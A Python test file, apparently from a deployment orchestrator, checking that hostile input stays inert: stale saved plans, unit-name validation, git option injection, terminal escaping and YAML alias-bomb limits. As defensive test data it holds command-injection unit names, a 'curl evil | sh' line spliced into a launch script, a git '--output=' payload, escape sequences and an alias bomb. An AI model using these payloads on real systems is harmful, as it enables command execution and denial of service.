"""Issue 19, Deliver 5: untrusted input stays inert (offline half).

- a saved plan is re-derived from its own profile.yaml before apply: an edited deployment (a unit
  named ``dsv4-x$(touch …).service``) or an edited file is a stale plan (exit 6);
- unit names are validated before any systemctl/cp command is built, and quoted in it;
- ``diff --git REV``: a revision that is an option (``--output=FILE``) never reaches git as one;
- control, C1 and bidi characters are escaped in everything dsv4ctl prints (one helper at the CLI
  boundary), and JSON output stays valid and equal;
- the YAML loader caps the expanded document (bytes of text, list lengths), not only the node count.
The host half (a hostile plan applied to a real sshd host) is tests/integration/test_hostile_plan.py.
"""

from __future__ import annotations

import copy
import hashlib
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from pydantic import ValidationError

from orchestrator.cli import main
from orchestrator.errors import InputError, RemoteError, StalePlan
from orchestrator.paths import default_profile
from orchestrator.planner.build import load_context
from orchestrator.planner.fleet import plan_from_paths
from orchestrator.profile.loader import MAX_LIST_ITEMS, load_text
from orchestrator.profile.schema import Profile
from orchestrator.terminal import escape
from tests.validate.helpers import INVENTORY, PROFILES

REPO = Path(__file__).resolve().parents[2]
HOSTILE_UNIT = "dsv4-x$(touch /tmp/dsv4-hostile-unit).service"


# ------------------------------------------------------------------ saved plan re-derived ---

def _plan() -> Any:
    return plan_from_paths(default_profile())


def _check(plan: Any) -> None:
    from orchestrator.apply import check_rederived
    from orchestrator.apply.context import profile_from_plan

    ctx = load_context(default_profile(), None)
    check_rederived(plan, profile_from_plan(plan), ctx.host_name, ctx.host)


def test_an_untouched_saved_plan_passes() -> None:
    plan = _plan()
    _check(type(plan).model_validate_json(plan.model_dump_json()))


def test_a_plan_with_a_hostile_unit_name_is_stale() -> None:
    plan = _plan()
    data = json.loads(plan.model_dump_json())
    data["deployment"]["roles"][0]["unit"] = HOSTILE_UNIT
    with pytest.raises(StalePlan) as info:
        _check(type(plan).model_validate(data))
    assert "stale: its deployment differs" in info.value.message and "roles" in info.value.message
    assert int(info.value.exit_code) == 6


def test_a_plan_with_an_edited_file_is_stale() -> None:
    plan = _plan()
    data = json.loads(plan.model_dump_json())
    f = next(f for f in data["files"] if f["path"] == "bin/launch-decode.sh")
    f["content"] = f["content"].replace("exec ", "curl evil | sh; exec ")
    # an edit that keeps the plan self-consistent (its sha256 recomputed) is still stale: the
    # file is not what the plan's own profile renders
    f["sha256"] = hashlib.sha256(f["content"].encode()).hexdigest()
    with pytest.raises(StalePlan, match=r"bin/launch-decode\.sh"):
        _check(type(plan).model_validate(data))
    # and a file without a hash (the old, never-set "sensitive" escape) is not a plan at all
    f["sha256"] = None
    with pytest.raises(ValidationError):
        type(plan).model_validate(data)


def test_apply_refuses_the_hostile_plan_with_exit_6(tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    """Through the CLI, before any connection (the inventory's host does not even resolve)."""
    plan = _plan()
    data = json.loads(plan.model_dump_json())
    data["deployment"]["roles"][0]["unit"] = HOSTILE_UNIT
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(data))
    rc = main(["apply", str(path), "--yes", "-i", str(INVENTORY)])
    assert rc == 6, capsys.readouterr()
    assert "stale" in capsys.readouterr().err.lower()
    assert not Path("/tmp/dsv4-hostile-unit").exists()


# ------------------------------------------------------------------ unit names ---

class _Recorder:
    name = "rec"

    def __init__(self) -> None:
        self.commands: list[str] = []

    def check(self, command: str, **kw: Any) -> str:
        self.commands.append(command)
        return ""

    def run(self, command: str, **kw: Any) -> Any:
        self.commands.append(command)
        from orchestrator.remote.probes import CommandResult

        return CommandResult(command, 0, "", "")


@pytest.mark.parametrize("method", ["install_units", "remove_units", "start", "stop",
                                    "reset_failed", "show"])
@pytest.mark.parametrize("unit", [HOSTILE_UNIT, "a.service\nreboot", "-x.service", "a b.service",
                                  "dsv4-`id`.service", "../../etc/x.service"])
def test_hostile_unit_names_never_reach_a_shell(method: str, unit: str) -> None:
    from orchestrator.remote.systemd import ServiceManager

    rec = _Recorder()
    svc = ServiceManager(rec, "user")  # type: ignore[arg-type]
    args: tuple[Any, ...] = ("/srv/dsv4/current/units", [unit]) if method == "install_units" \
        else ([unit],)
    with pytest.raises(RemoteError, match="refusing unit name"):
        getattr(svc, method)(*args)
    assert rec.commands == []


def test_plain_unit_names_are_quoted() -> None:
    from orchestrator.remote.systemd import ServiceManager

    rec = _Recorder()
    ServiceManager(rec, "user").install_units(  # type: ignore[arg-type]
        "/srv/dsv4/current/units", ["dsv4-default-decode.service"])
    assert "\"$d\"/'.dsv4-default-decode.service.tmp'" in rec.commands[0] or \
        "\"$d\"/.dsv4-default-decode.service.tmp" in rec.commands[0]


# ------------------------------------------------------------------ git revisions ---

@pytest.mark.parametrize("rev", ["--output={out}", "-o{out}"])
def test_git_revision_cannot_be_an_option(rev: str, tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "written-by-git"
    rc = main(["diff", "--git", rev.format(out=out), str(REPO / "profiles" / "default.yaml")])
    assert rc == 1
    assert not out.exists(), "git was given the revision as an option"
    assert "cannot start with '-'" in capsys.readouterr().err


def test_git_is_called_with_end_of_options(monkeypatch: pytest.MonkeyPatch) -> None:
    from orchestrator.cli import render_cmd

    seen: list[list[str]] = []
    real = subprocess.run

    def spy(argv: list[str], *a: Any, **k: Any) -> Any:
        seen.append(list(argv))
        return real(argv, *a, **k)

    monkeypatch.setattr(render_cmd.subprocess, "run", spy)
    render_cmd._git_show("HEAD", REPO / "profiles" / "default.yaml")
    show = next(a for a in seen if "show" in a)
    assert show[show.index("show") + 1] == "--end-of-options"


# ------------------------------------------------------------------ terminal escaping ---

HOSTILE_TEXT = "RTX\x1b]0;pwned\x07\x1b[2J \u202eevil\u2066x\u200e\x9b\x85\x7f"


def test_escape_covers_control_c1_and_bidi() -> None:
    out = escape(HOSTILE_TEXT + "\nok\tok")
    for ch in "\x1b\x07\u202e\u2066\u200e\x9b\x85\x7f":
        assert ch not in out
    assert "\\u001b" in out and "\\u202e" in out and out.endswith("\nok\tok")


def _inventory_with_gpu(tmp_path: Path, model: str) -> Path:
    inv = yaml.safe_load(INVENTORY.read_text())
    inv["hosts"]["gpu-host"]["gpus"]["model"] = model
    path = tmp_path / "inventory.yaml"
    path.write_text(yaml.safe_dump(inv, allow_unicode=True))
    return path


@pytest.mark.parametrize("fmt", ["text", "markdown", "json"])
def test_plan_output_escapes_a_hostile_gpu_name(fmt: str, tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    inv = _inventory_with_gpu(tmp_path, HOSTILE_TEXT)
    main(["plan", str(PROFILES / "default.yaml"), "-i", str(inv), "--format", fmt])
    out = capsys.readouterr()
    text = out.out + out.err
    assert "evil" in text
    for ch in "\x1b\x07\u202e\u2066\u200e\x9b\x85\x7f":
        assert ch not in text, repr(ch)
    if fmt == "json":  # still valid, and the value decodes back to what the inventory said
        decoded = json.dumps(json.loads(out.out), ensure_ascii=False)
        assert "\u202eevil\u2066x\u200e\x9b\x85\x7f" in decoded


def test_extra_args_with_escapes_are_shown_escaped(tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    data = copy.deepcopy(yaml.safe_load((PROFILES / "default.yaml").read_text()))
    data["topology"]["decode"]["extra_args"] = ["--log-level", "info\u202e\x1b[8m"]
    prof = tmp_path / "p.yaml"
    prof.write_text(yaml.safe_dump(data, allow_unicode=True))
    (tmp_path / "inventory.yaml").write_text(INVENTORY.read_text())
    for argv in (["plan", str(prof), "-v"], ["render", str(prof), "--stdout"],
                 ["diff", str(PROFILES / "default.yaml"), str(prof), "-i",
                  str(tmp_path / "inventory.yaml")]):
        main(argv)
        out = capsys.readouterr()
        assert "\x1b" not in out.out + out.err and "\u202e" not in out.out + out.err


def test_an_http_error_body_is_printed_escaped(capsys: pytest.CaptureFixture[str],
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """A host's answer (here an engine's error body, as the health step reports it) reaches the
    terminal only through the CLI's escaping streams."""
    import click

    from orchestrator.cli import cli

    @cli.command("zz-echo-body", hidden=True)
    def _echo_body() -> None:
        click.echo("health: /v1/models answered 500: " + HOSTILE_TEXT)

    try:
        assert main(["zz-echo-body"]) == 0
    finally:
        cli.commands.pop("zz-echo-body")
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\u202e" not in out and "\\u001b]0;pwned" in out


# ------------------------------------------------------------------ YAML expansion caps ---

def test_a_small_alias_bomb_is_refused() -> None:
    """~10 KB of YAML that expands to ~4 MB of extra_args (the node count alone let it through:
    600 aliases of one 7 KB string are 600 nodes)."""
    data = copy.deepcopy(yaml.safe_load((PROFILES / "default.yaml").read_text()))
    text = yaml.safe_dump(data, sort_keys=False)
    bomb = "x_big: &big \"" + "A" * 7000 + "\"\n"
    aliases = ", ".join(["*big"] * 600)
    text = bomb + text.replace("topology:\n", "topology:\n", 1)
    text = text.replace("  decode:\n", f"  decode:\n    extra_args: [{aliases}]\n", 1)
    assert len(text.encode()) < 20_000
    with pytest.raises(InputError) as info:
        load_text(Profile, text, "bomb.yaml")
    msg = info.value.render()
    assert "bytes of text" in msg and "aliases" in msg and "bomb.yaml:" in msg


def test_a_long_list_is_refused() -> None:
    data = copy.deepcopy(yaml.safe_load((PROFILES / "default.yaml").read_text()))
    data["topology"]["decode"]["extra_args"] = ["--x"] * (MAX_LIST_ITEMS + 1)
    with pytest.raises(InputError) as info:
        load_text(Profile, yaml.safe_dump(data), "long.yaml")
    assert f"more than {MAX_LIST_ITEMS}" in info.value.render()
